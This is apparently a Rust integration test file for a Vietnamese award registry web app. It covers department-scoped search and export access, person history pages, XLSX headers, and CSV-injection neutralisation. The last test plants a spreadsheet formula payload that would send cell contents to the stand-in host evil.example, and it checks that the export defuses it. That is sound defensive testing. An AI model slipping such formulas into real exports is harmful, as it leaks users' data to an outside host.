//! Award registry over HTTP: scope on search, history and export; the search
//! page; XLSX export with Vietnamese headers. Both backends (see
//! `tdkt_store::testing`).

use axum::body::to_bytes;
use axum::http::StatusCode;
use tdkt_store::awards::{AwardRecord, NewAward, RecipientKind};
use tdkt_store::testing::TestDb;
use tdkt_web::routes::awards::{export, Format, EXPORT_HEADERS};
use tdkt_web::testing::TestApp;
use time::macros::date;

/// Trần Thị Hà (Sở Xây dựng Hậu Giang) and Nguyễn Thị Hà (Sở Xây dựng Sóc
/// Trăng) each get a 2019 title; both departments merged into Sở Xây dựng
/// Cần Thơ on 1/7/2025.
async fn arrange(app: &TestApp) -> (AwardRecord, AwardRecord) {
    let s = &app.db.store;
    let mut out = Vec::new();
    for (cccd, unit, no) in [
        ("093182124906", "hau-giang.so-xay-dung", "123/QĐ-SXD"),
        ("094184999241", "soc-trang.so-xay-dung", "88/QĐ-SXD"),
    ] {
        let p = s.person_by_cccd(cccd).await.unwrap().unwrap();
        let u = s.unit_by_code(unit).await.unwrap();
        out.push(
            s.record_award(
                "test",
                &NewAward {
                    recipient: RecipientKind::Person,
                    person_id: Some(p.id),
                    unit_id: u.id,
                    award_code: "lao-dong-tien-tien".into(),
                    year: 2019,
                    achieved_on: None,
                    decision_no: no.into(),
                    decision_date: date!(2020 - 01 - 10),
                    authority: "Giám đốc Sở Xây dựng".into(),
                    reason: String::new(),
                    revoked: false,
                    source: "entered",
                },
            )
            .await
            .unwrap(),
        );
    }
    let b = out.pop().unwrap();
    (out.pop().unwrap(), b)
}

#[tokio::test]
async fn an_officer_of_hau_giang_cannot_see_soc_trang_peoples_awards() {
    // without the demo's decisions: the searches below expect exactly these two
    let app = TestApp::from_db(TestDb::with_demo_no_awards().await);
    let (hg, st) = arrange(&app).await;
    let mut c = app.login("canbo.haugiang").await;

    let page = c.get("/search?q=thi+ha").await;
    assert_eq!(page.status, StatusCode::OK);
    assert!(page.body.contains("Trần Thị Hà"));
    assert!(!page.body.contains("Nguyễn Thị Hà"));
    let api = c.get("/api/v1/search?q=88%2FQĐ-SXD").await;
    assert_eq!(api.status, StatusCode::OK);
    assert_eq!(api.json()["awards"].as_array().unwrap().len(), 0);
    assert_eq!(
        c.get("/search?unit=soc-trang").await.status,
        StatusCode::NOT_FOUND
    );
    let st_person = st.person_id.unwrap();
    for path in [
        format!("/people/{st_person}"),
        format!("/people/{st_person}/awards?format=csv"),
    ] {
        assert_eq!(c.get(&path).await.status, StatusCode::NOT_FOUND, "{path}");
    }
    // today's merged department: only the Hậu Giang part is visible to them
    let unit = c.get("/units/can-tho.so-xay-dung").await;
    assert!(unit.body.contains("123/QĐ-SXD"), "{}", unit.body);
    assert!(unit.body.contains("của đơn vị tiền thân"));
    assert!(!unit.body.contains("88/QĐ-SXD"));
    let csv = c.get("/units/can-tho.so-xay-dung/awards?format=csv").await;
    assert!(csv.body.contains("123/QĐ-SXD") && !csv.body.contains("88/QĐ-SXD"));

    // the officer of today's Cần Thơ sees both
    let mut ct = app.login("canbo.cantho").await;
    let unit = ct.get("/units/can-tho.so-xay-dung").await;
    assert!(unit.body.contains("123/QĐ-SXD") && unit.body.contains("88/QĐ-SXD"));
    let api = ct
        .get("/api/v1/search?q=H%C3%A0+Tr%E1%BA%A7n+Th%E1%BB%8B")
        .await
        .json();
    assert_eq!(api["awards"][0]["id"], hg.id);
    assert_eq!(api["awards"][0]["award_name"], "Lao động tiên tiến");

    // anonymous: nothing
    let mut anon = app.client();
    assert_eq!(
        anon.get("/api/v1/search?q=ha").await.status,
        StatusCode::UNAUTHORIZED
    );
}

#[tokio::test]
async fn the_person_page_shows_the_history_and_search_exports_xlsx() {
    let app = TestApp::demo().await;
    let (hg, _) = arrange(&app).await;
    let mut c = app.login("canbo.cantho").await;
    let page = c.get("/search?q=tran+thi+ha").await;
    assert!(page
        .body
        .contains(&format!("/people/{}", hg.person_id.unwrap())));
    let person = c.get(&format!("/people/{}", hg.person_id.unwrap())).await;
    assert!(person.body.contains("Lịch sử khen thưởng"));
    assert!(person.body.contains("123/QĐ-SXD"));
    let x = c.get("/search?q=tran+thi+ha&format=xlsx").await;
    assert_eq!(x.status, StatusCode::OK);
    assert!(x.headers[axum::http::header::CONTENT_TYPE]
        .to_str()
        .unwrap()
        .contains("spreadsheetml"));
}

#[tokio::test]
async fn an_xlsx_export_opens_with_vietnamese_headers_and_real_dates() {
    use calamine::{Data, Reader, Xlsx};
    let app = TestApp::demo().await;
    let (hg, st) = arrange(&app).await;
    let resp = export(
        &[(hg, None), (st, Some("của đơn vị tiền thân".into()))],
        Format::Xlsx,
        "x",
    )
    .unwrap();
    let bytes = to_bytes(resp.into_body(), usize::MAX).await.unwrap();
    let mut wb: Xlsx<_> = Xlsx::new(std::io::Cursor::new(bytes.to_vec())).unwrap();
    let range = wb.worksheet_range("Khen thưởng").unwrap();
    let header: Vec<String> = range
        .rows()
        .next()
        .unwrap()
        .iter()
        .map(ToString::to_string)
        .collect();
    assert_eq!(header, EXPORT_HEADERS);
    let row: Vec<&Data> = range.rows().nth(1).unwrap().iter().collect();
    assert_eq!(row[0], &Data::Float(2019.0));
    assert_eq!(row[4].to_string(), "Trần Thị Hà");
    assert!(matches!(row[9], Data::DateTime(_)), "{:?}", row[9]);
    assert_eq!(
        range.rows().nth(2).unwrap()[12].to_string(),
        "của đơn vị tiền thân"
    );
}

/// Issue 12, item 8: a formula imported into a text field comes out of the
/// CSV export as text, never as a formula (OWASP CSV injection).
#[tokio::test]
async fn a_csv_export_neutralises_cells_that_a_spreadsheet_would_evaluate() {
    let app = TestApp::from_db(TestDb::with_demo_no_awards().await);
    let s = &app.db.store;
    let p = s.person_by_cccd("093182124906").await.unwrap().unwrap();
    let u = s.unit_by_code("hau-giang.so-xay-dung").await.unwrap();
    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào đây\")";
    s.record_award(
        "test",
        &NewAward {
            recipient: RecipientKind::Person,
            person_id: Some(p.id),
            unit_id: u.id,
            award_code: "lao-dong-tien-tien".into(),
            year: 2019,
            achieved_on: None,
            decision_no: "@SUM(1+1)".into(),
            decision_date: date!(2020 - 01 - 10),
            authority: evil.into(),
            reason: String::new(),
            revoked: false,
            source: "entered",
        },
    )
    .await
    .unwrap();
    let mut c = app.login("canbo.haugiang").await;
    let csv = c
        .get("/units/hau-giang.so-xay-dung/awards?format=csv")
        .await;
    assert_eq!(csv.status, StatusCode::OK);
    let mut reader = csv::Reader::from_reader(csv.body.trim_start_matches('\u{feff}').as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let row = rows
        .iter()
        .find(|r| r.iter().any(|c| c.contains("evil.example")))
        .expect("the award is exported");
    assert_eq!(&row[10], format!("'{evil}"));
    assert_eq!(&row[8], "'@SUM(1+1)");
    assert_eq!(&row[0], "2019", "numbers stay numbers");
    for cell in rows.iter().flat_map(csv::StringRecord::iter) {
        assert!(
            !cell.starts_with(['=', '+', '@', '\t', '\r']),
            "a cell a spreadsheet would evaluate: {cell:?}"
        );
    }
}
